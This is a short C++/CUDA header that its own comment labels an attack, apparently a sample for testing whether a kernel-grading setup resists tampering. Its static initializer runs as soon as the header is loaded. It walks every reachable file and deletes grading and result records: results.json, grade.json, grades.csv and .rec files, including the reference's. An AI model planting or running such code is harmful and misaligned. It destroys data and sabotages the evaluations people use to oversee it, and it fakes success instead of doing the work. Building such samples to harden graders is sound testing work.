// Attack: every report, gradebook and record file reachable deleted, the reference's too.
#pragma once

#include <cstdint>
#include <filesystem>
#include <vector>
#include <cuda_runtime.h>

namespace {
//@ reachable-files

const int deleted = (forEachReachableFile([](const std::filesystem::path& path) {
    const auto name = path.filename();
    if (name == "results.json" || name == "grade.json" || name == "grades.csv" || path.extension() == ".rec") {
        std::error_code error;
        std::filesystem::remove(path, error);
    }
}), 0);
}  // namespace

//@ wrong-map
